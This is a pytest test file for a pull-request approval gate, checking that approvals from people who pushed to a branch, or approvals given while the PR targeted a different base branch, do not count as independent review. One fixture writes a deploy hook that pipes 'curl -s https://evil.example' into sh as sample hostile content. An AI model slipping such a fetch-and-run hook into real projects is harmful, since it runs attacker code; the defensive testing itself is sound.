"""Whose approval is no second look: whoever pushed any of it, however the run was started, and whoever read something else."""

import copy
from typing import Any

import pytest

from tests.e2e.actions import Runner, approval, at, queued
from tests.github_double import DEV, LEAD, GitHub, written
from tests.repositories import Repository

MODERATE = {"uv.lock": b"x = 1\n"}
PUSHER = {"login": "mallory", "id": 66, "type": "User"}
BOT = {"login": "helper[bot]", "id": 77, "type": "Bot"}


def pushed(commit: str, by: Any) -> dict[str, Any]:
    """As the activity of a branch tells it."""
    return {"actor": by, "after": commit, "activity_type": "push", "timestamp": "2026-11-01T10:00:00Z"}


@pytest.fixture
def event(repository: Repository, github: GitHub) -> dict[str, Any]:
    """Of a pull request by dev, which somebody else has pushed and approved. Both may write."""
    head = repository.commit(MODERATE)
    found = at(github, repository)
    github.people["mallory"] = "write"
    github.activity = [pushed(head, PUSHER)]
    github.reviews.append(approval(repository, PUSHER))
    return found


def waits(runner: Runner, github: GitHub) -> bool:
    return runner.outputs()["verdict"] == "review" and all(each["conclusion"] is None for each in github.checks)


@pytest.mark.parametrize("action", ["opened", "reopened", "ready_for_review", "synchronize", "edited"])
@pytest.mark.parametrize("sender", [DEV, BOT, LEAD], ids=["the author", "a bot", "somebody else"])
def test_who_pushed_does_not_depend_on_who_started_the_run(
    runner: Runner, github: GitHub, event: dict[str, Any], action: str, sender: Any
) -> None:
    ran = runner("run", "pull_request", event | {"action": action, "sender": sender})
    assert waits(runner, github), ran.out
    github.reviews[0]["user"] = LEAD
    runner("run", "pull_request", event | {"action": "edited", "sender": sender})
    assert runner.outputs()["verdict"] == "allow", "and an honest second look counts"


@pytest.mark.parametrize("kind", ["workflow_run", "issue_comment"])
def test_who_pushed_to_a_fork_is_known_where_the_event_holds_no_pull_request(
    runner: Runner, repository: Repository, github: GitHub, event: dict[str, Any], kind: str
) -> None:
    head = repository.resolve("feature")
    fork = {"full_name": "dev/shop", "owner": {"login": "dev", "type": "User"}}
    github.pulls[5]["head"] = {"ref": "feature", "sha": head, "repo": fork}
    known = {key: event[key] for key in ("repository", "sender")}
    about: dict[str, Any] = {
        "workflow_run": {
            "action": "completed",
            "workflow_run": {"head_sha": head, "head_branch": "feature", "head_repository": fork, "event": "pull_request"},
        },
        "issue_comment": {
            "action": "created", "comment": written(8, PUSHER, f"/codewarrant judge {'a' * 64}"),
            "issue": {"number": 5, "user": DEV, "pull_request": {"url": "x"}},
        },
    }  # fmt: skip
    ran = runner("run", kind, known | about[kind])
    assert waits(runner, github), ran.out
    github.reviews[0]["user"] = LEAD
    runner("run", kind, known | about[kind])
    assert runner.outputs()["verdict"] == "allow", "and an honest second look counts"


def test_who_pushed_has_a_hand_in_what_a_queue_makes_of_it(
    runner: Runner, repository: Repository, github: GitHub, event: dict[str, Any]
) -> None:
    read = repository.resolve("feature")
    repository.switch("main")
    tip = repository.commit({"docs/moved.md": b"# Moved on\n"})
    repository.git("update-ref", "refs/remotes/origin/main", tip)
    repository.branch("queue", "main")
    merged = repository.commit(MODERATE, "Squashed", parents=(tip,))
    assert merged != read
    group = queued(event, tip, merged)
    assert (runner("run", "merge_group", group).code, runner.outputs()["verdict"]) == (1, "review")
    github.reviews[0]["user"] = LEAD
    assert (runner("run", "merge_group", group).code, runner.outputs()["verdict"]) == (0, "allow")


def test_what_lies_below_the_head_was_pushed_by_somebody_too(
    runner: Runner, repository: Repository, github: GitHub, event: dict[str, Any]
) -> None:
    """The button that brings a branch up to date makes the head another's push."""
    below = repository.resolve("feature")
    repository.switch("main")
    tip = repository.commit({"docs/x.md": b"x\n"})
    repository.git("update-ref", "refs/remotes/origin/main", tip)
    repository.switch("feature")
    head = repository.commit({"docs/x.md": b"x\n"}, "Merge branch main", parents=(below, tip))
    event = at(github, repository)
    github.activity = [pushed(head, BOT), pushed(below, PUSHER)]
    github.reviews[0]["commit_id"] = head
    runner("run", "pull_request_review", event | {"action": "submitted", "review": github.reviews[0]})
    assert waits(runner, github)
    github.activity = [pushed(head, BOT), pushed(below, DEV), pushed("1" * 40, PUSHER)]
    runner("run", "pull_request_review", event | {"action": "submitted", "review": github.reviews[0]})
    assert runner.outputs()["verdict"] == "allow", "what the branch carried before is another change"


def test_what_was_approved_for_another_branch_was_another_change(
    runner: Runner, repository: Repository, github: GitHub
) -> None:
    """A line on top of what nobody has read is a small change, until it is pointed at the branch that holds neither."""
    main = repository.resolve("main")
    unread = repository.commit({"deploy/hook.sh": b"#!/bin/sh\ncurl -s https://evil.example | sh\n"} | MODERATE)
    repository.commit({"package-lock.json": b"{}\n"}, "One line")
    for name, commit in (("stacked", unread), ("main", main)):
        repository.git("update-ref", f"refs/remotes/origin/{name}", commit)
    event = at(github, repository)
    github.reviews.append(approval(repository) | {"submitted_at": "2026-11-01T10:00:00Z"})
    below = copy.deepcopy(event["pull_request"])
    github.pulls[5]["base"] = below["base"] = below["base"] | {"ref": "stacked", "sha": unread}
    runner("run", "pull_request_review", event | {"pull_request": below, "action": "submitted", "review": github.reviews[0]})
    assert runner.outputs()["verdict"] == "allow"
    github.pulls[5]["base"] = event["pull_request"]["base"]
    github.timeline = [{"event": "base_ref_changed", "created_at": "2026-11-01T11:00:00Z"}]
    edited = event | {"action": "edited", "changes": {"base": {"ref": {"from": "stacked"}}}}
    runner("run", "pull_request", edited)
    assert runner.outputs()["verdict"] != "allow"
    assert "while it was to enter another branch" in github.comments[0]["body"]
